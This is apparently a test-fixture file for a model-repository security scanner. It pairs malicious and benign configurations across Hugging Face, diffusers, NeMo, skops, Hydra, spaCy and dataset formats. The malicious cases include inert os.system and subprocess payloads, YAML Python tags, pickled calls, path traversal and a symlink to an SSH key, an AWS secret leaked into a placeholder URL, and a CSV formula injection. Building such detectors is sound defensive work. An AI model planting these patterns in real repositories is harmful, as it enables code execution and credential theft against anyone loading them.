"""Configurations of hubs: Hugging Face's and other libraries' files that decide what is loaded, imported and called."""
import json
from base import SAY, URL, Link, js, os_system, safetensors, several, tarred, torch_zip, state_dict

ST = safetensors()
CODE = "import os\nimport torch\n\nos.system('echo jingwei')\n\n\nclass TinyModel(torch.nn.Module):\n    pass\n"
BERT = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 64, "num_attention_heads": 4, "num_hidden_layers": 2, "vocab_size": 1000, "transformers_version": "4.55.0"}
def conf(more=None, twin=None, extra=(), calm=(), name="config.json", base=BERT):
    """Two folders: a configuration with more in it, and the same with something calm."""
    return {name: js({**base, **(more or {})}), "model.safetensors": ST, **dict(extra)}, {name: js({**base, **(twin or {})}), "model.safetensors": ST, **dict(calm)}


several("hub", "code-by-configuration", "block", [
    ("auto-map-here", "auto_map names Python in the folder, which starts a program when it is imported", *conf({"auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}, {"id2label": {"0": "NEG", "1": "POS"}}, [("modeling_tiny.py", CODE)], [("vocab.txt", "[PAD]\n[UNK]\nthe\n")])),
    ("auto-map-elsewhere", "auto_map names another repository's Python", *conf({"auto_map": {"AutoConfig": "example-invalid/helpers--configuration_tiny.TinyConfig", "AutoModel": "example-invalid/helpers--modeling_tiny.TinyModel"}}, {"problem_type": "single_label_classification"})),
    ("model-file", "mlx-lm runs the Python file that `model_file` names", *conf({"model_file": "model.py"}, {"quantization": {"group_size": 64, "bits": 4}}, [("model.py", CODE)], [("model.safetensors.index.json", js({"metadata": {}, "weight_map": {"embed.weight": "model.safetensors"}}))])),
    ("attention-kernel", "the attention comes from a repository of native kernels", *conf({"_attn_implementation": "example-invalid/fast-attention:run"}, {"_attn_implementation": "sdpa"})),
    ("custom-generate", "the folder brings its own decoding loop, which runs on generate()", *conf({}, {"use_cache": True}, [("custom_generate/generate.py", "import os\n\n\ndef generate(model, **kwargs):\n    os.system('echo jingwei')\n"), ("custom_generate/requirements.txt", "example-invalid\n")], [("generation_config.json", js({"max_new_tokens": 64, "do_sample": False}))])),
])
several("hub", "trust-by-configuration", "block", [
    ("tokenizer-auto-map", "the tokenizer's auto_map names Python in the folder", {"tokenizer_config.json": js({"tokenizer_class": "TinyTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}}), "tokenization_tiny.py": CODE}, {"tokenizer_config.json": js({"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 512, "pad_token": "[PAD]"}), "vocab.txt": "[PAD]\nthe\n"}),
    ("prompt-tuning", "PEFT makes its tokenizer with trust in remote code", {"adapter_config.json": js({"peft_type": "PROMPT_TUNING", "task_type": "CAUSAL_LM", "num_virtual_tokens": 8, "prompt_tuning_init": "TEXT", "prompt_tuning_init_text": "Answer:", "tokenizer_name_or_path": "example-invalid/tokenizer", "tokenizer_kwargs": {"trust_remote_code": True}}), "adapter_model.safetensors": ST}, {"adapter_config.json": js({"peft_type": "PROMPT_TUNING", "task_type": "CAUSAL_LM", "num_virtual_tokens": 8, "prompt_tuning_init": "TEXT", "prompt_tuning_init_text": "Answer:", "tokenizer_name_or_path": "gpt2"}), "adapter_model.safetensors": ST}),
    ("adapter-library", "PEFT imports the module that auto_mapping names", {"adapter_config.json": js({"peft_type": "LORA", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj"], "auto_mapping": {"base_model_class": "Run", "parent_library": "jingwei_inert.module"}}), "adapter_model.safetensors": ST}, {"adapter_config.json": js({"peft_type": "LORA", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj", "v_proj"], "auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}}), "adapter_model.safetensors": ST}),
    ("sentence-module", "modules.json names a class of another library, which is imported and made", {"modules.json": js([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Run", "type": "subprocess.Popen"}]), "1_Run/config.json": js({"args": SAY}), "config.json": js(BERT), "model.safetensors": ST}, {"modules.json": js([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]), "1_Pooling/config.json": js({"word_embedding_dimension": 64, "pooling_mode_mean_tokens": True}), "config.json": js(BERT), "model.safetensors": ST}),
])
PIPE = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.34.0", "scheduler": ["diffusers", "DDIMScheduler"], "unet": ["diffusers", "UNet2DConditionModel"], "vae": ["diffusers", "AutoencoderKL"]}
pipe = lambda **more: {"model_index.json": js({**PIPE, **more}), "unet/config.json": js({"_class_name": "UNet2DConditionModel", "sample_size": 8}), "unet/diffusion_pytorch_model.safetensors": ST}
several("hub", "diffusers", "block", [
    ("component-of-os", "a component is a class of a module that is no model's", pipe(safety_checker=["subprocess", "Popen"]), pipe(safety_checker=[None, None])),
    ("component-in-folder", "a component is Python in its folder", {**pipe(unet=["my_unet", "Net"]), "unet/my_unet.py": CODE}, {**pipe(requires_safety_checker=False), "unet/README.md": "# UNet\n\nTrained on 20k pictures.\n"}),
    ("custom-pipeline", "the pipeline's class is in Python beside the index", {**pipe(_class_name=["pipeline", "TinyPipeline"]), "pipeline.py": CODE}, {**pipe(feature_extractor=["transformers", "CLIPImageProcessor"]), "feature_extractor/preprocessor_config.json": js({"crop_size": 224})}),
    ("modular-blocks", "modular blocks come from another repository with trust", {"modular_model_index.json": js({"_class_name": "ModularPipeline", "_blocks_class_name": "Blocks", "auto_map": {"ModularPipelineBlocks": "block.Blocks"}, "unet": ["diffusers", "UNet2DConditionModel", {"repo": "example-invalid/unet", "trust_remote_code": True}]}), "block.py": CODE}, {"modular_model_index.json": js({"_class_name": "StableDiffusionXLModularPipeline", "_blocks_class_name": "StableDiffusionXLAutoBlocks", "unet": ["diffusers", "UNet2DConditionModel", {"repo": "stabilityai/sdxl", "subfolder": "unet"}]})}),
])
several("hub", "paths-in-configurations", "block", [
    ("base-model", "the adapter's base is a folder outside", *conf({"base_model_name_or_path": "../../../../root/.cache/private"}, {"base_model_name_or_path": "bert-base-uncased"}, name="adapter_config.json", base={"peft_type": "LORA", "r": 8, "target_modules": ["query"]})),
    ("windows-share", "the base model lies on another machine's share", *conf({"base_model_name_or_path": "\\\\example.invalid\\models\\base"}, {"base_model_name_or_path": "meta-llama/Llama-3.2-1B"}, name="adapter_config.json", base={"peft_type": "LORA", "r": 16, "target_modules": ["k_proj"]})),
    ("timm-file", "timm fetches weights that are a pickle from an address", *conf({"pretrained_cfg": {"url": URL + ".pth", "file": "/tmp/jingwei.pth", "num_classes": 10}}, {"pretrained_cfg": {"hf_hub_id": "timm/resnet18.a1_in1k", "num_classes": 10, "mean": [.485, .456, .406]}}, base={"architecture": "resnet18", "num_classes": 10})),
    ("link-to-home", "a file of the folder is a link to a key", {"config.json": js(BERT), "model.safetensors": ST, "special_tokens_map.json": Link("/root/.ssh/id_ed25519")}, {"config.json": js(BERT), "model.safetensors": ST, "special_tokens_map.json": js({"pad_token": "[PAD]"})}),
])
several("hub", "numbers-of-configurations", "review", [
    ("huge-sizes", "block: sizes that take all memory when the model is made", *conf({"hidden_size": 1 << 40, "num_hidden_layers": 1 << 31, "vocab_size": 1 << 40}, {"hidden_size": 128})),
    ("remote-code-flag", "the configuration asks for trust in remote code", *conf({"trust_remote_code": True}, {"torch_dtype": "float16"})),
    ("two-architectures", "one key twice; parsers take the first or the last", {"config.json": '{"model_type": "bert", "architectures": ["BertModel"], "auto_map": {"AutoModel": "example-invalid/x--m.M"}, "auto_map": {}}', "model.safetensors": ST}, {"config.json": '{"model_type": "bert", "architectures": ["BertModel"], "id2label": {"0": "a"}, "label2id": {"a": 0}}', "model.safetensors": ST}),
])
several("hub", "other-libraries", "block", [
    ("yolov5-yaml", "YOLOv5 evaluates the modules of its layout", {"yolov5n.yaml": "nc: 80\ndepth_multiple: 0.33\nwidth_multiple: 0.25\nanchors: 3\nbackbone:\n  - [-1, 1, \"__import__('os').system('echo jingwei')\", [64, 6, 2, 2]]\nhead:\n  - [-1, 1, Conv, [512, 1, 1]]\n"}, {"yolov5n.yaml": "nc: 80\ndepth_multiple: 0.33\nwidth_multiple: 0.25\nanchors: 3\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\nhead:\n  - [-1, 1, Conv, [512, 1, 1]]\n"}),
    ("mmengine-imports", "MMEngine imports what custom_imports names", {"config.json": js({"custom_imports": {"imports": ["jingwei_inert.module"], "allow_failed_imports": False}, "model": {"type": "ResNet", "depth": 18}}), "epoch_12.pth": torch_zip(*state_dict(0))}, {"config.json": js({"model": {"type": "ResNet", "depth": 18}, "default_scope": "mmpretrain"}), "epoch_12.pth": torch_zip(*state_dict(0))}),
    ("pyannote-pipeline", "pyannote imports the class that the pipeline's name gives", {"config.yaml": "version: 3.1.0\npipeline:\n  name: jingwei_inert.module.Run\n  params:\n    command: echo jingwei\n"}, {"config.yaml": "version: 3.1.0\npipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params:\n    clustering: AgglomerativeClustering\n"}),
    ("spacy-callback", "spaCy's configuration calls a function of the shell before the pipeline is made", {"config.cfg": "[nlp]\nlang = \"en\"\npipeline = [\"ner\"]\n\n[nlp.before_creation]\n@callbacks = \"jingwei.run_shell.v1\"\ncommand = \"echo jingwei\"\n\n[components.ner]\nfactory = \"ner\"\n", "meta.json": js({"lang": "en", "name": "tiny", "version": "1.0.0"}), "functions.py": "import os\nimport spacy\n\n\n@spacy.registry.callbacks('jingwei.run_shell.v1')\ndef make(command):\n    return lambda nlp: os.system(command)\n"}, {"config.cfg": "[nlp]\nlang = \"en\"\npipeline = [\"ner\"]\n\n[components.ner]\nfactory = \"ner\"\n\n[components.ner.model]\n@architectures = \"spacy.TransitionBasedParser.v2\"\nhidden_width = 64\n", "meta.json": js({"lang": "en", "name": "tiny", "version": "1.0.0"})}),
])
several("hub", "factories", "block", [
    ("hydra-target", "Hydra makes what _target_ names", {"config.yaml": "model:\n  _target_: subprocess.run\n  args: [echo, jingwei]\nepochs: 10\n"}, {"config.yaml": "model:\n  _target_: torch.nn.Linear\n  in_features: 8\n  out_features: 2\nepochs: 10\n"}),
    ("nested-target", "the target is deep in a list of transforms", {"hparams.yaml": "data:\n  transforms:\n    - _target_: torchvision.transforms.Resize\n      size: 224\n    - _target_: builtins.eval\n      _args_: [\"print('jingwei')\"]\n"}, {"hparams.yaml": "data:\n  transforms:\n    - _target_: torchvision.transforms.Resize\n      size: 224\n    - _target_: torchvision.transforms.ToTensor\n"}),
    ("environment", "review: the configuration takes secrets out of the environment and puts them into an address", {"config.yaml": "tracking_uri: https://example.invalid/?k=${oc.env:AWS_SECRET_ACCESS_KEY}\nname: tiny\n"}, {"config.yaml": "tracking_uri: file:./runs\nname: tiny\nlr: ${optimizer.lr}\noptimizer:\n  lr: 0.001\n"}),
    ("python-tag", "YAML with a tag that makes Python call", {"labels.yaml": "names: [cat, dog]\nextra: !!python/object/apply:os.system [echo jingwei]\n"}, {"labels.yaml": "names: [cat, dog]\nextra: !!timestamp 2026-05-01\n"}),
    ("speech-new", "HyperPyYAML makes an object of any class", {"hyperparams.yaml": "sample_rate: 16000\nrun: !apply:subprocess.check_output [[echo, jingwei]]\n"}, {"hyperparams.yaml": "sample_rate: 16000\nfeatures: !new:speechbrain.lobes.features.Fbank\n    n_mels: 80\n"}),
])
NEMO = "name: tiny\ntarget: %s\npreprocessor:\n  _target_: %s\n  sample_rate: 16000\ntokenizer:\n  model: %s\n"
nemo = lambda target="nemo.collections.asr.models.EncDecCTCModel", pre="nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor", vocab="nemo:tokenizer.model", ckpt=None, more=(): {"tiny.nemo": tarred([("./model_config.yaml", (NEMO % (target, pre, vocab)).encode()), ("./model_weights.ckpt", ckpt or torch_zip(*state_dict(1))), *more])}
several("hub", "nemo", "block", [
    ("target", "the model's class is a function that starts programs", nemo("subprocess.Popen"), nemo()),
    ("weights", "the weights are a pickle that calls", nemo(ckpt=torch_zip({"w": os_system()}, {})), nemo(ckpt=torch_zip(*state_dict(2)))),
    ("member-outside", "a member of the archive walks out of the folder", nemo(more=[("../../../../tmp/jingwei.py", b"print('jingwei')\n")]), nemo(more=[("./vocab.txt", b"a\nb\n")])),
])
SCHEMA = lambda module, cls="LogisticRegression", loader="ObjectNode", **more: zipped_schema({"__class__": cls, "__module__": module, "__loader__": loader, "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [], "__id__": 3}, "__id__": 2}, "__id__": 1, "protocol": 2, "_skops_version": "0.12.0", **more})


def zipped_schema(schema):
    from base import zipped
    return {"model.skops": zipped([("schema.json", json.dumps(schema).encode())])}


several("hub", "skops", "block", [
    ("operator", "an operator's function reaches any attribute", SCHEMA("operator", "methodcaller", "OperatorFuncNode", attrs={"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [], "__id__": 4}), SCHEMA("sklearn.linear_model._logistic")),
    ("popen", "an object of subprocess", SCHEMA("subprocess", "Popen"), SCHEMA("sklearn.preprocessing._data", "StandardScaler")),
    ("function", "a function of os", SCHEMA("posix", "system", "FunctionNode"), SCHEMA("numpy", "log1p", "FunctionNode")),
])
SCRIPT = "import datasets\nimport os\n\nos.system('echo jingwei')\n\n\nclass Tiny(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        return datasets.DatasetInfo()\n"
CARD = "---\nlicense: mit\nconfigs:\n- config_name: default\n  data_files:\n  - split: train\n    path: %s\n---\n\n# Tiny\n\nSentences with labels.\n"
ROWS = "text,label\ngood,1\nbad,0\n"
several("hub", "datasets", "block", [
    ("loading-script", "a script with the folder's name runs when the data set is loaded", {"tiny/tiny.py": SCRIPT, "tiny/train.csv": ROWS}, {"tiny/README.md": CARD % "train.csv", "tiny/train.csv": ROWS}),
    ("files-outside", "the card's files lie outside the folder", {"README.md": CARD % '"../../../../root/.ssh/*"', "train.csv": ROWS}, {"README.md": CARD % '"train*.csv"', "train.csv": ROWS}),
    ("formula-in-csv", "review: a cell that a spreadsheet runs", {"train.csv": ROWS + "=cmd|'/c echo jingwei'!A1,1\n", "README.md": CARD % "train.csv"}, {"train.csv": ROWS + "better,1\n", "README.md": CARD % "train.csv"}),
])
